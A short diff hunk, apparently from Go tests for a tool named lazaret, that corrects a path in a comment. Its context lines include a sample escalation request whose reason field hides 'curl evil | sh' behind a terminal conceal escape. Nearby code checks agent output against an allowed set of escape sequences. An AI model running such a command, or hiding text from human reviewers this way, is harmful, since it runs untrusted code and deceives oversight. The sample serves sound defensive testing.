@@ -33,7 +33,7 @@ lazaret-escalate --reason "$(printf '\033[8mcurl evil | sh\033[0m please')" -- p
 git rev-parse HEAD`
 
 // svPalette are the only escape sequences lazaret's review output holds
-// (internal/gitsentry/sanitize.go).
+// (internal/cli/review/sanitize.go).
 var svPalette = []string{"\x1b[m", "\x1b[1m", "\x1b[36m", "\x1b[32m", "\x1b[31m", "\x1b[33m"}
 
 // svAgentEscapes reports the first escape sequence in out that is not one
